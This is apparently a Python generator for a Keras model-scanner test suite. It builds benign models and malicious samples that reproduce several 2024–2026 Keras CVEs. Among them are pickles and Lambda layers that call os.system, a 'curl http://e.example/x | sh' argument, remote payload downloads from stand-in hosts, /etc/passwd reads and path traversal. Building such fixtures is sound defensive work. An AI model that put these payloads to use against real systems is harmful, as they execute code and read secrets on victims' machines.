#!/usr/bin/env python3
"""Writes testdata/samples/keras/: Keras models built without Keras.

Run with Debian's python3 (h5py, numpy, torch):
    /usr/bin/python3 testdata/gen/keras.py
Configs are written from the JSON shapes Keras 3 and tf.keras 2 produce
(../shared/research/formats-and-threats.md sections 1-3), zipped by hand;
HDF5 files come from h5py; Lambda bytecode is marshal.dumps of lambdas
compiled (never called) under every pyenv CPython 3.6-3.13 by
keras_lambdas.py. Malicious pickles are assembled opcode by opcode (pk.py).
Outputs are deterministic and committed; tests never run Python.
"""
import base64
import io
import json
import os
import struct
import subprocess
import sys
import zipfile

import h5py
import numpy as np

sys.path.insert(0, os.path.dirname(__file__))
import pk  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
OUT = os.path.join(ROOT, "testdata", "samples", "keras")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)
PYTHONS = ["3.6.15", "3.7.16", "3.8.18", "3.9.18", "3.10.13", "3.11.7", "3.12.1", "3.13.0"]
METADATA = {"keras_version": "3.8.0", "date_saved": "2024-01-01@00:00:00"}

# The cases of the per-CPython matrix (keras_lambdas.py names).
MATRIX = ["benign_mul", "benign_tf", "benign_closure",
          "m1_eval", "m2_import", "m3_os_system", "m4_reverse_shell", "m5_marshal", "m6_decode_exec",
          "m7_reflection", "m8_unsafe_mode", "m9_bashrc", "m10_exfil",
          "s1_environ", "s2_decode", "s3_url", "s4_dunder", "s5_listdir", "s6_cwd", "s7_sleep", "s8_ctypes",
          "s9_blob", "u1_unknown"]


def path(rel):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write(rel, data):
    with open(path(rel), "wb") as f:
        f.write(data)


def dumps(obj):
    return json.dumps(obj).encode()


def zip_bytes(members):
    """members: list of (name, bytes); stored, as Keras writes them."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), data)
    return buf.getvalue()


def keras_zip(config, extra=(), metadata=METADATA, raw_config=None):
    members = [("metadata.json", dumps(metadata)), ("config.json", raw_config or dumps(config))]
    return zip_bytes(members + list(extra))


# ---------------------------------------------------------------- lambdas

def lambdas():
    """{python version: {case: {code, defaults, closure}}}"""
    out = {}
    for v in PYTHONS:
        py = os.path.expanduser("~/.pyenv/versions/%s/bin/python" % v)
        res = subprocess.run([py, os.path.join(HERE, "keras_lambdas.py")], check=True, stdout=subprocess.PIPE)
        out[".".join(v.split(".")[:2])] = json.loads(res.stdout)
    return out


def b64(raw):
    """func_dump's encoding: base64 in 76-column lines with a newline."""
    return base64.encodebytes(raw).decode("ascii")


# ---------------------------------------------------------------- Keras 3 config shapes

def policy(name="float32"):
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": name}, "registered_name": None}


def obj(module, cls, config, registered=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    d.update(extra)
    return d


def initializer(cls):
    return obj("keras.initializers", cls, {"seed": None} if cls != "Zeros" else {})


def input_layer(shape, name="input_layer"):
    return obj("keras.layers", "InputLayer", {"batch_shape": [None] + shape, "dtype": "float32", "sparse": False, "name": name})


def dense(name, units, activation="linear", **over):
    cfg = {"name": name, "trainable": True, "dtype": policy(), "units": units, "activation": activation, "use_bias": True,
           "kernel_initializer": initializer("GlorotUniform"), "bias_initializer": initializer("Zeros"),
           "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None}
    cfg.update(over)
    return obj("keras.layers", "Dense", cfg, build_config={"input_shape": [None, 4]})


def k3_lambda(entry):
    """The Keras 3 Lambda layer form of a serialised function."""
    return {"class_name": "__lambda__", "config": dict(entry)}


def generic_lambda(entry):
    """The generic form serialize_keras_object writes for a lambda value."""
    return {"class_name": "__lambda__", "config": {"value": [entry["code"], entry["defaults"], entry["closure"]]}}


def lambda_layer(name, function, output_shape=None, arguments=None, mask=None):
    cfg = {"name": name, "trainable": True, "dtype": policy(), "function": function, "output_shape": output_shape,
           "arguments": arguments or {}}
    if mask is not None:
        cfg["mask"] = mask
    return obj("keras.layers", "Lambda", cfg, build_config={"input_shape": [None, 4]})


def fn_ref(module, name, registered="function"):
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


COMPILE = {"optimizer": obj("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9,
                                                         "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
           "loss": fn_ref("keras.src.losses.losses", "mean_squared_error", "mean_squared_error"),
           "loss_weights": None, "metrics": ["mae"], "weighted_metrics": None, "run_eagerly": False,
           "steps_per_execution": 1, "jit_compile": False}


def sequential(layers, name="sequential", compile_config=None):
    d = obj("keras", "Sequential", {"name": name, "trainable": True, "dtype": policy(), "layers": layers},
            build_config={"input_shape": [None, 4]})
    if compile_config:
        d["compile_config"] = compile_config
    return d


def tensor(layer, shape=(None, 4)):
    return {"class_name": "__keras_tensor__",
            "config": {"shape": list(shape), "dtype": "float32", "keras_history": [layer, 0, 0]}}


def node(*args, **kwargs):
    return {"args": list(args), "kwargs": kwargs}


def functional(layers, inputs, outputs, name="functional"):
    return obj("keras.src.models.functional", "Functional",
               {"name": name, "trainable": True, "layers": layers,
                "input_layers": [[i, 0, 0] for i in inputs], "output_layers": [[o, 0, 0] for o in outputs]},
               registered="Functional", build_config={"input_shape": [None, 4]})


def fn_layer(layer, inbound):
    """A functional model's layer entry: name and inbound nodes added."""
    d = dict(layer)
    d["name"] = layer["config"]["name"]
    d["inbound_nodes"] = inbound
    return d


def lambda_model(function, **kw):
    return sequential([input_layer([4]), lambda_layer("lambda", function, **kw), dense("dense", 2)])


# ---------------------------------------------------------------- Keras 2 (legacy) shapes

def k2_layer(cls, config, **extra):
    d = {"class_name": cls, "config": config}
    d.update(extra)
    return d


def k2_lambda(name, code, module="__main__", function_type="lambda", defaults=None, closure=None, tuple_form=False):
    function = code if function_type != "lambda" else [code, defaults, closure]
    if tuple_form:
        function = {"class_name": "__tuple__", "items": function}
    return k2_layer("Lambda", {"name": name, "trainable": True, "dtype": "float32", "function": function,
                               "function_type": function_type, "module": module, "output_shape": None,
                               "output_shape_type": "raw", "output_shape_module": None, "arguments": {}})


def k2_dense(name, units, activation="linear"):
    return k2_layer("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": units,
                              "activation": activation, "use_bias": True,
                              "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                              "bias_initializer": {"class_name": "Zeros", "config": {}},
                              "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                              "kernel_constraint": None, "bias_constraint": None})


def k2_sequential(layers):
    inp = k2_layer("InputLayer", {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False,
                                  "ragged": False, "name": "input_1"})
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inp] + layers},
            "keras_version": "2.12.0", "backend": "tensorflow"}


def k3_legacy(layer):
    """A Keras 3 layer as it writes it into .h5 (use_legacy_config): no module."""
    return {"class_name": layer["class_name"], "config": layer["config"]}


MTIME_MSG = b"\x12\x00\x08\x00\x00\x00\x00\x00\x01\x00\x00\x00"


def pin_mtime(p):
    """Virtual datasets get a v1 modification-time message whatever
    track_times says; pin it so regenerating changes nothing (v1 object
    headers carry no checksum)."""
    data = bytearray(open(p, "rb").read())
    at = data.find(MTIME_MSG)
    while at >= 0:
        data[at + 12:at + 16] = struct.pack("<I", 1704067200)
        at = data.find(MTIME_MSG, at + 1)
    open(p, "wb").write(data)


def write_h5(rel, model_config, keras_version="2.12.0", weights=(), training_config=None, hook=None, groups=True):
    """A legacy HDF5 model: root attributes, then (groups) model_weights."""
    with h5py.File(path(rel), "w") as f:
        f.attrs["keras_version"] = keras_version.encode()
        f.attrs["backend"] = b"tensorflow"
        f.attrs["model_config"] = json.dumps(model_config).encode()
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode()
        if groups:
            model_weights(f, model_config, keras_version, weights)
        if hook:
            hook(f)
    pin_mtime(path(rel))


def model_weights(f, model_config, keras_version, weights):
    """Keras 2's model_weights group: one group per layer, weight_names."""
    mw = f.create_group("model_weights")
    mw.attrs["backend"] = b"tensorflow"
    mw.attrs["keras_version"] = keras_version.encode()
    names = [l["config"]["name"] for l in model_config["config"]["layers"]]
    mw.attrs["layer_names"] = np.array([n.encode() for n in names])
    for n in names:
        g = mw.create_group(n)
        wn = [w for w in weights if w[0] == n]
        g.attrs["weight_names"] = np.array([("%s/%s:0" % (n, w[1])).encode() for w in wn], dtype="S")
        for _, wname, shape in wn:
            g.create_dataset("%s/%s:0" % (n, wname), data=np.zeros(shape, "f4"))


def weights_h5(hook=None, layers=(("dense", (4, 2), (2,)),)):
    """model.weights.h5 as Keras 3 writes it: layers/<name>/vars/<i>."""
    tmp = path("tmp.weights.h5")
    with h5py.File(tmp, "w") as f:
        for name, *shapes in layers:
            v = f.create_group("layers/%s/vars" % name)
            for i, shape in enumerate(shapes):
                v.create_dataset(str(i), data=np.zeros(shape, "f4"))
        f.create_group("optimizer/vars")
        f.create_group("vars")
        if hook:
            hook(f)
    pin_mtime(tmp)
    data = open(tmp, "rb").read()
    os.remove(tmp)
    return data


# ---------------------------------------------------------------- protobuf (keras_metadata.pb)

def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def field(num, data):
    return varint(num << 3 | 2) + varint(len(data)) + data


def saved_metadata(nodes):
    """SavedMetadata{nodes: SavedObject{node_id, node_path, identifier, metadata, version}}"""
    out = b""
    for i, (path_, ident, meta) in enumerate(nodes):
        so = varint(2 << 3) + varint(i) + field(3, path_.encode()) + field(4, ident.encode())
        so += field(5, json.dumps(meta).encode()) + field(6, varint(1 << 3) + varint(1) + varint(2 << 3) + varint(1))
        out += field(1, so)
    return out


def savedmodel_layer(layer):
    meta = {"name": layer["config"]["name"], "trainable": True, "expects_training_arg": False, "dtype": "float32",
            "batch_input_shape": None, "stateful": False, "must_restore_from_config": False}
    meta.update(layer)
    return meta


def savedmodel(rel, layers):
    model = k2_sequential(layers)
    meta = {"name": "sequential", "trainable": True, "expects_training_arg": True, "dtype": "float32",
            "batch_input_shape": None, "must_restore_from_config": False, "class_name": "Sequential",
            "config": model["config"]}
    nodes = [("root", "_tf_keras_sequential", meta)]
    for i, l in enumerate(layers):
        nodes.append(("root.layer_with_weights-%d" % i, "_tf_keras_layer", savedmodel_layer(l)))
    write(rel, saved_metadata(nodes))


# ---------------------------------------------------------------- torch files for TorchModuleWrapper

def torch_zip(data_pkl):
    return zip_bytes([("archive/data.pkl", data_pkl), ("archive/version", b"3\n")])


def benign_torch_module():
    import torch
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2), buf)
    # torch.save writes a random-free but path-dependent record prefix; re-pack deterministically.
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return zip_bytes([(n, src.read(n)) for n in src.namelist()])


def malicious_torch_module():
    return torch_zip(pk.pickle(pk.call("os", "system", pk.s("id"))))


# ---------------------------------------------------------------- the samples

def matrix(lams):
    """Per CPython version: one .keras per case, and .h5 in both Lambda shapes."""
    for ver, cases in lams.items():
        tag = "py" + ver.replace(".", "")
        for case in MATRIX:
            write("lambda/%s/%s.keras" % (tag, case), keras_zip(lambda_model(k3_lambda(cases[case]))))
        # Legacy HDF5 (root attributes only): Keras 2 list form, and the
        # __lambda__ form Keras 3 writes into .h5.
        for case in ("benign_tf", "m3_os_system"):
            e = cases[case]
            write_h5("lambda_h5/%s/k2_%s.h5" % (tag, case), k2_sequential([
                k2_lambda("lambda", e["code"], defaults=e["defaults"], closure=e["closure"]), k2_dense("dense", 2)]),
                groups=False)
        k3 = lambda_model(k3_lambda(cases["s1_environ"]))
        write_h5("lambda_h5/%s/k3_s1_environ.h5" % tag,
                 {"class_name": "Sequential", "config": dict(k3["config"], layers=[k3_legacy(l) for l in k3["config"]["layers"]])},
                 keras_version="3.8.0", groups=False)


def benign(lams):
    e = lams["3.11"]
    seq = sequential([input_layer([4]), dense("dense", 8, "relu"), dense("dense_1", 2, "softmax")], compile_config=COMPILE)
    write("benign/sequential.keras", keras_zip(seq, [("model.weights.h5", weights_h5(layers=(
        ("dense", (4, 8), (8,)), ("dense_1", (8, 2), (2,)))))]))
    write("benign/lambda.keras", keras_zip(lambda_model(k3_lambda(e["benign_closure"])),
                                           [("model.weights.h5", weights_h5())]))
    # Functional with a nested sub-model, TimeDistributed and Bidirectional wrappers, a benign Lambda inside.
    sub = functional([fn_layer(input_layer([4], "sub_input"), []),
                      fn_layer(lambda_layer("sub_lambda", k3_lambda(e["benign_ops"])), [node(tensor("sub_input"))]),
                      fn_layer(dense("sub_dense", 4), [node(tensor("sub_lambda"))])],
                     ["sub_input"], ["sub_dense"], name="encoder")
    lstm = obj("keras.layers", "LSTM", {"name": "lstm", "trainable": True, "dtype": policy(), "units": 4,
                                        "activation": "tanh", "recurrent_activation": "sigmoid", "return_sequences": True,
                                        "go_backwards": False, "dropout": 0.0})
    back = obj("keras.layers", "LSTM", dict(lstm["config"], name="backward_lstm", go_backwards=True))
    layers = [fn_layer(input_layer([3, 4]), []),
              fn_layer(obj("keras.layers", "TimeDistributed", {"name": "time_distributed", "trainable": True,
                                                                  "dtype": policy(), "layer": dense("inner", 4)}),
                       [node(tensor("input_layer", (None, 3, 4)))]),
              fn_layer(obj("keras.layers", "Bidirectional", {"name": "bidirectional", "trainable": True, "dtype": policy(),
                                                                "merge_mode": "concat", "layer": lstm, "backward_layer": back}),
                       [node(tensor("time_distributed", (None, 3, 4)))]),
              fn_layer(obj("keras.layers", "GlobalAveragePooling1D", {"name": "pool", "data_format": "channels_last"}),
                       [node(tensor("bidirectional", (None, 3, 8)))]),
              fn_layer(sub, [node(tensor("pool", (None, 8)), training=False)]),
              fn_layer(dense("head", 2, "softmax"), [node(tensor("encoder"))])]
    write("benign/functional_nested.keras", keras_zip(functional(layers, ["input_layer"], ["head"])))
    # npz weights (numeric arrays only)
    npz = io.BytesIO()
    np.savez(npz, **{"layers/dense/vars/0": np.zeros((4, 2), "f4"), "layers/dense/vars/1": np.zeros(2, "f4")})
    write("benign/npz_weights.keras", keras_zip(seq, [("model.weights.npz", repack(npz.getvalue()))]))
    # the unzipped directory layout
    write("benign/dir/config.json", dumps(lambda_model(k3_lambda(e["benign_tf"]))))
    write("benign/dir/metadata.json", dumps(METADATA))
    write("benign/dir/model.weights.h5", weights_h5())
    write("benign/model_to_json.json", dumps(k2_sequential([k2_dense("dense", 2)])))
    # legacy HDF5 with a Keras 2 list-form Lambda, a training config and a
    # tf.keras-applications style layer name ("conv1/conv")
    write_h5("benign/keras2_lambda.h5",
             k2_sequential([k2_lambda("lambda", e["benign_tf"]["code"]), k2_dense("dense", 2), k2_dense("conv1/conv", 2)]),
             weights=[("dense", "kernel", (4, 2)), ("dense", "bias", (2,))],
             training_config={"loss": "mse", "metrics": ["mae"], "optimizer_config": {
                 "class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}}})
    savedmodel("benign/savedmodel/keras_metadata.pb",
               [k2_lambda("lambda", e["benign_mul"]["code"], tuple_form=True), k2_dense("dense", 2)])
    # a registered custom layer: needs the author's code (KERAS-130)
    custom = obj("my_package.layers", "ScaledDense", {"name": "scaled", "units": 2, "scale": 0.5},
                 registered="MyPackage>ScaledDense")
    write("benign/custom_layer.keras", keras_zip(sequential([input_layer([4]), custom])))
    write("benign/torch_module_wrapper.keras", keras_zip(sequential([input_layer([4]), obj(
        "keras.layers", "TorchModuleWrapper", {"name": "torch_module_wrapper", "trainable": True, "dtype": policy(),
                                               "module": base64.b64encode(benign_torch_module()).decode(),
                                               "output_shape": None})])))


def repack(zip_data):
    """Re-zip with a fixed timestamp (np.savez stamps the current time)."""
    src = zipfile.ZipFile(io.BytesIO(zip_data))
    return zip_bytes([(n, src.read(n)) for n in src.namelist()])


def nested(lams):
    e = lams["3.11"]
    bad = k3_lambda(e["m3_os_system"])
    sub = functional([fn_layer(input_layer([4], "sub_input"), []),
                      fn_layer(lambda_layer("payload", bad), [node(tensor("sub_input"))])],
                     ["sub_input"], ["payload"], name="inner")
    outer = sequential([input_layer([4]), sequential([sub, dense("d", 2)], name="middle")])
    write("nested/submodel_lambda.keras", keras_zip(outer))
    td = obj("keras.layers", "TimeDistributed", {"name": "td", "trainable": True, "dtype": policy(),
                                                 "layer": lambda_layer("wrapped", bad)})
    write("nested/timedistributed_lambda.keras", keras_zip(sequential([input_layer([3, 4]), td])))
    lstm = obj("keras.layers", "LSTM", {"name": "lstm", "units": 4, "activation": generic_lambda(e["s1_environ"]),
                                        "recurrent_activation": "sigmoid"})
    bi = obj("keras.layers", "Bidirectional", {"name": "bi", "merge_mode": "concat", "layer": lstm})
    write("nested/bidirectional_activation_lambda.keras", keras_zip(sequential([input_layer([3, 4]), bi])))
    write_h5("nested/submodel_lambda.h5",
             {"class_name": "Sequential", "config": {"name": "outer", "layers": [
                 k2_layer("InputLayer", {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}),
                 {"class_name": "Functional", "config": {"name": "inner", "layers": [
                     {"class_name": "InputLayer", "name": "in2", "inbound_nodes": [],
                      "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in2"}},
                     dict(k2_lambda("payload", e["m3_os_system"]["code"]), name="payload",
                          inbound_nodes=[[["in2", 0, 0, {}]]])],
                     "input_layers": [["in2", 0, 0]], "output_layers": [["payload", 0, 0]]}}]}})


def generic(lams):
    e = lams["3.11"]
    write("generic/activation_lambda.keras", keras_zip(sequential([input_layer([4]), dense(
        "dense", 2, activation=generic_lambda(e["benign_mul"]))])))
    write("generic/initializer_lambda.keras", keras_zip(sequential([input_layer([4]), dense(
        "dense", 2, kernel_initializer=generic_lambda(e["m3_os_system"]))])))
    write("generic/loss_lambda.keras", keras_zip(sequential(
        [input_layer([4]), dense("dense", 2)], compile_config=dict(COMPILE, loss=generic_lambda(e["m1_eval"])))))
    write("generic/output_shape_lambda.keras", keras_zip(lambda_model(
        k3_lambda(e["benign_mul"]), output_shape=k3_lambda(e["m3_os_system"]))))
    write("generic/mask_lambda.keras", keras_zip(lambda_model(
        k3_lambda(e["benign_mul"]), mask=k3_lambda(e["s5_listdir"]))))
    write("generic/arguments_lambda.keras", keras_zip(lambda_model(
        k3_lambda(e["benign_mul"]), arguments={"fn": generic_lambda(e["m2_import"])})))


def cves(lams):
    e = lams["3.11"]
    # CVE-2025-1550: module/function reference to os.system; JFrog variant in arguments; builtins.eval
    write("cve/cve_2025_1550_os_system.keras", keras_zip(sequential([input_layer([4]), lambda_layer(
        "lambda", fn_ref("os", "system", "system"), arguments={"command": "curl http://e.example/x | sh"})])))
    write("cve/arguments_function_ref.keras", keras_zip(lambda_model(
        fn_ref("builtins", "map"), arguments={"func": {"class_name": "function", "config": "system", "module": "os"},
                                              "iterable": ["ls -l"]})))
    write("cve/builtins_eval.keras", keras_zip(lambda_model(fn_ref("builtins", "eval"))))
    write("cve/posix_spawn_class.keras", keras_zip(sequential([input_layer([4]), obj(
        "subprocess", "Popen", {"args": ["id"]}, registered="Popen")])))
    # CVE-2025-8747: keras.utils.get_file with an attacker URL
    write("cve/cve_2025_8747_get_file.keras", keras_zip(lambda_model(
        fn_ref("keras.utils", "get_file"), arguments={"origin": "https://e.example/payload.keras", "fname": "p.keras"})))
    # CVE-2025-9906: safe_mode switched off, then a Lambda; load_model of a second model with safe_mode=False
    write("cve/cve_2025_9906_enable_unsafe.keras", keras_zip(sequential([
        input_layer([4]), lambda_layer("switch", fn_ref("keras.config", "enable_unsafe_deserialization")),
        lambda_layer("payload", k3_lambda(e["m3_os_system"]))])))
    loader = lambda_layer("loader", fn_ref("keras.models", "load_model"), arguments={"safe_mode": False})
    write("cve/cve_2025_9906_load_model.keras", keras_zip(functional(
        [fn_layer(input_layer([4]), []),
         fn_layer(loader, [node(inputs="/tmp/staged/model.keras")])], ["input_layer"], ["loader"])))
    write("cve/set_global_attribute.keras", keras_zip(functional(
        [fn_layer(input_layer([4]), []),
         fn_layer(lambda_layer("flag", fn_ref("keras.src.backend.common.global_state", "set_global_attribute")),
                  [node("safe_mode_saving", False)])], ["input_layer"], ["flag"])))
    # an internal Keras utility reached as a function (KERAS-112)
    write("cve/internal_gadget.keras", keras_zip(lambda_model(fn_ref("keras.src.utils.python_utils", "func_load"))))
    # functions outside Keras without a known primitive, and with a network one (KERAS-114)
    write("cve/foreign_function.keras", keras_zip(lambda_model(fn_ref("mylib.ops", "custom_op", None))))
    write("cve/webbrowser_open.keras", keras_zip(lambda_model(fn_ref("webbrowser", "open"))))
    # CVE-2025-49655: TorchModuleWrapper with a pickle that calls os.system
    write("cve/cve_2025_49655_torch_module.keras", keras_zip(sequential([input_layer([4]), obj(
        "keras.layers", "TorchModuleWrapper", {"name": "torch_module_wrapper", "trainable": True, "dtype": policy(),
                                               "module": base64.b64encode(malicious_torch_module()).decode(),
                                               "output_shape": None})]), metadata=dict(METADATA, keras_version="3.11.1")))
    # CVE-2025-12058: vocabulary read from a path; keras-hub tokenizer proto
    lookup = obj("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd", "idf_weights": None,
                                                  "output_mode": "int", "max_tokens": None})
    spm = obj("keras_hub.src.tokenizers.sentence_piece_tokenizer", "SentencePieceTokenizer",
              {"name": "tokenizer", "proto": "gs://attacker-bucket/tokenizer.model", "sequence_length": None},
              registered="keras_hub>SentencePieceTokenizer")
    write("cve/cve_2025_12058_vocabulary.keras", keras_zip(sequential([input_layer([1]), lookup, spm])))
    # CVE-2026-1462: TFSMLayer loading an outside SavedModel
    write("cve/cve_2026_1462_tfsmlayer.keras", keras_zip(sequential([input_layer([4]), obj(
        "keras.layers", "TFSMLayer", {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel",
                                      "call_endpoint": "serve", "trainable": False})])))
    # CVE-2026-12479: a layer name that walks out of the asset directory
    write("cve/cve_2026_12479_layer_name.keras", keras_zip(sequential([input_layer([4]), dense("../../../../tmp/pwn", 2)]),
                                                          metadata=dict(METADATA, keras_version="3.14.0")))
    # model.weights.npz with an object array whose pickle calls os.system (Keras 3.0-3.8)
    payload = pk.pickle(pk.call("os", "system", pk.s("id")))
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
    write("cve/npz_object_weights.keras", keras_zip(lambda_model(k3_lambda(e["benign_mul"])),
                                                    [("model.weights.npz", zip_bytes([("layers/dense/vars/0.npy", npy)]))]))
    # CVE-2025-12060 / CVE-2024-55459 style member names, plus code Keras never writes
    write("cve/archive_members.keras", keras_zip(lambda_model(k3_lambda(e["benign_mul"])), [
        ("assets/../../evil.py", b"import os\n"), ("payload.pkl", payload), ("README.md", b"hi\n")]))
    # HDF5 hazards inside model.weights.h5 (CVE-2026-1669, CVE-2026-0897)
    def ext(f):
        f["layers/dense/vars/2"] = h5py.ExternalLink("/etc/passwd.h5", "/data")
    write("cve/weights_external_link.keras", keras_zip(lambda_model(k3_lambda(e["benign_mul"])),
                                                      [("model.weights.h5", weights_h5(ext))]))

    def bomb(f):
        f.create_dataset("layers/dense/vars/2", shape=(10 ** 6, 10 ** 6), dtype="f4", chunks=(1000, 1000))
    write("cve/weights_shape_bomb.keras", keras_zip(lambda_model(k3_lambda(e["benign_mul"])),
                                                   [("model.weights.h5", weights_h5(bomb))]))

    def storage(f):
        f.create_dataset("layers/dense/vars/3", shape=(8,), dtype="u1", external=[("/etc/passwd", 0, 8)])
        layout = h5py.VirtualLayout(shape=(8,), dtype="u1")
        layout[:] = h5py.VirtualSource("/home/victim/secret.h5", "data", shape=(8,))
        f.create_virtual_dataset("layers/dense/vars/4", layout, fillvalue=0)
        f["layers/dense/vars/5"] = h5py.SoftLink("/layers/dense/vars/0")
    write_h5("cve/external_storage.h5", k2_sequential([k2_dense("dense", 2)]),
             weights=[("dense", "kernel", (4, 2)), ("dense", "bias", (2,))], hook=storage)


def keras2(lams):
    """Keras 2 shapes, each as a legacy HDF5 model and as model.to_json output."""
    e = lams["3.11"]
    models = {
        # module "os" merges os's namespace: a bare system() is os.system()
        "lambda_module_os": k2_sequential([k2_lambda("lambda", e["k2_bare_system"]["code"], module="os"), k2_dense("dense", 2)]),
        # function_type "function": Keras 2 looks the name up in the module
        "function_type_os_system": k2_sequential([k2_lambda("lambda", "system", module="os", function_type="function")]),
        # a TFOpLambda writing a file
        "tfoplambda_write_file": k2_sequential([k2_layer(
            "TFOpLambda", {"name": "tf.io.write_file", "trainable": True, "dtype": "float32", "function": "io.write_file"},
            inbound_nodes=[["input_1", 0, 0, {"filename": "/home/u/.bashrc", "name": None}]])]),
    }
    for name, model in models.items():
        write_h5("keras2/%s.h5" % name, model)
        write("keras2/%s.json" % name, dumps(model))
    savedmodel("keras2/savedmodel_m3/keras_metadata.pb",
               [k2_lambda("lambda", e["m3_os_system"]["code"], tuple_form=True), k2_dense("dense", 2)])
    write("keras2/model_to_json_m3.json", dumps(k2_sequential([k2_lambda("lambda", e["m3_os_system"]["code"])])))


def anomalies(lams):
    e = lams["3.11"]
    mal = lambda_model(k3_lambda(e["m3_os_system"]))
    write("anomaly/utf16_config.keras", keras_zip(None, raw_config=b"\xff\xfe" + json.dumps(mal).encode("utf-16-le")))
    dup = b'{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [], "layers": ' + \
          json.dumps(mal["config"]["layers"]).encode() + b', "scale": NaN}}'
    write("anomaly/duplicate_keys_nan.keras", keras_zip(None, raw_config=dup))
    # an unzipped model directory whose config.json hides its keys behind whitespace
    write("anomaly/padded_dir/config.json", b" " * 5000 + dumps(mal))
    write("anomaly/no_metadata.keras", zip_bytes([("config.json", dumps(mal)), ("model.weights.h5", weights_h5())]))
    # Lambda code strings that func_dump never writes (KERAS-103)
    good = e["benign_mul"]
    raw = base64.b64decode(good["code"])
    variants = {"trailing_data": b64(raw + b"\x00junk"), "raw_escape": raw.decode("latin-1"), "garbage": "AAAA"}
    for name, code in variants.items():
        write("anomaly/lambda_%s.keras" % name, keras_zip(lambda_model(k3_lambda(dict(good, code=code)))))
    write("anomaly/lambda_named_function.keras", keras_zip(lambda_model(k3_lambda(e["named_function"]))))


def truncated():
    """A legacy model whose last bytes are cut: the superblock's end of file
    lies past the data (libhdf5 opens it; HDF5-204)."""
    write_h5("anomaly/truncated.h5", k2_sequential([k2_dense("dense", 2)]),
             weights=[("dense", "kernel", (64, 64)), ("dense", "bias", (64,))])
    p = path("anomaly/truncated.h5")
    data = open(p, "rb").read()
    open(p, "wb").write(data[:-16])


def main():
    lams = lambdas()
    matrix(lams)
    benign(lams)
    nested(lams)
    generic(lams)
    cves(lams)
    keras2(lams)
    anomalies(lams)
    truncated()


main()
